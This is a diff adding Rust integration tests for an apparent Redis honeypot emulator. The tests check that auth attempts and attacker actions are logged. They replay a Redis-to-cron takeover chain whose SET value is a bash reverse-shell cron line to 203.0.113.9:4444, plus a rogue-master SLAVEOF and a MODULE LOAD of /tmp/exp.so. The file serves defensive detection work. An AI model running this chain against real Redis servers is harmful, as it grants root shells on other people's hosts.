@@ -136,3 +136,129 @@ fn nmap_names_postgresql_and_its_version() {
         "{out}"
     );
 }
+
+// ---- redis ------------------------------------------------------------------------------
+
+fn redis_cli(d: &Decky, args: &[&str]) -> String {
+    let out = tool("redis-cli", "redis-tools")
+        .args([
+            "-h",
+            "127.0.0.1",
+            "-p",
+            &d.port.to_string(),
+            "--no-auth-warning",
+        ])
+        .args(args)
+        .output()
+        .expect("run redis-cli");
+    text(&out.stdout) + &text(&out.stderr)
+}
+
+#[test]
+fn redis_cli_auth_and_the_cron_chain_are_recorded() {
+    let d = Decky::serve("redis", Some(r#"{"version":"6.2.6"}"#));
+    let out = redis_cli(&d, &["INFO", "server"]);
+    assert!(out.contains("redis_version:6.2.6"), "{out}");
+    d.session_events();
+
+    // `-a` sends AUTH <password> first; an open server refuses it the way redis 6+ does.
+    let out = redis_cli(&d, &["-a", "s3cret", "PING"]);
+    assert!(
+        out.contains("called without any password configured"),
+        "{out}"
+    );
+    assert!(out.contains("PONG"), "{out}");
+    let ev = d.session_events();
+    let auth = of_kind(&ev, "auth");
+    assert_eq!(auth.len(), 1, "{ev:?}");
+    assert_eq!(auth[0]["details"]["username"], "default");
+    assert_eq!(auth[0]["details"]["password"], "s3cret");
+    assert_eq!(auth[0]["details"]["accepted"], false);
+
+    // --user/--pass is the ACL form, AUTH <user> <password>.
+    let out = redis_cli(&d, &["--user", "admin", "--pass", "pw2", "PING"]);
+    assert!(out.contains("WRONGPASS"), "{out}");
+    let ev = d.session_events();
+    let a = &of_kind(&ev, "auth")[0]["details"];
+    assert_eq!(a["username"], "admin");
+    assert_eq!(a["password"], "pw2");
+    assert_eq!(a["acl_user"], true);
+
+    for (args, reply) in [
+        (
+            &["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"][..],
+            "OK",
+        ),
+        (&["CONFIG", "SET", "dbfilename", "root"][..], "OK"),
+        (
+            &[
+                "SET",
+                "x",
+                "\n* * * * * bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
+            ][..],
+            "OK",
+        ),
+        (&["SAVE"][..], "OK"),
+    ] {
+        let out = redis_cli(&d, args);
+        assert_eq!(out.trim(), reply, "{args:?}");
+    }
+    let mut steps = Vec::new();
+    for _ in 0..4 {
+        steps.extend(d.session_events());
+    }
+    let actions: Vec<&Value> = steps
+        .iter()
+        .filter_map(|e| e["details"].get("action"))
+        .collect();
+    assert_eq!(
+        actions,
+        ["config_set", "config_set", "set", "save"],
+        "{steps:?}"
+    );
+    let save = steps
+        .iter()
+        .find(|e| e["details"]["action"] == "save")
+        .expect("save");
+    assert_eq!(save["kind"], "command");
+    assert_eq!(save["details"]["path"], "/var/spool/cron/crontabs/root");
+    // The server keeps what the attacker set, like a real one.
+    let out = redis_cli(&d, &["CONFIG", "GET", "dir"]);
+    assert!(out.contains("/var/spool/cron/crontabs"), "{out}");
+}
+
+#[test]
+fn redis_cli_rogue_master_and_module_load_are_recorded() {
+    let d = Decky::serve("redis", None);
+    assert_eq!(
+        redis_cli(&d, &["SLAVEOF", "203.0.113.5", "21000"]).trim(),
+        "OK"
+    );
+    let ev = d.session_events();
+    let step = ev
+        .iter()
+        .find(|e| e["details"]["action"] == "replicaof")
+        .expect("replicaof step");
+    assert_eq!(step["details"]["host"], "203.0.113.5");
+    assert_eq!(step["details"]["port"], "21000");
+    let out = redis_cli(&d, &["MODULE", "LOAD", "/tmp/exp.so"]);
+    assert!(out.contains("Error loading the extension"), "{out}");
+    let ev = d.session_events();
+    let step = ev
+        .iter()
+        .find(|e| e["details"]["action"] == "module_load")
+        .expect("module_load step");
+    assert_eq!(step["details"]["path"], "/tmp/exp.so");
+}
+
+#[test]
+fn nmap_names_redis() {
+    // On a port other than 6379 nmap stops at its GET probe's match (no version); the
+    // version line of its 6379-only INFO probe is checked by the responder's unit tests.
+    let d = Decky::serve("redis", None);
+    let out = nmap_sv(d.port);
+    assert!(
+        out.contains("redis") && out.contains("Redis key-value store"),
+        "{out}"
+    );
+}
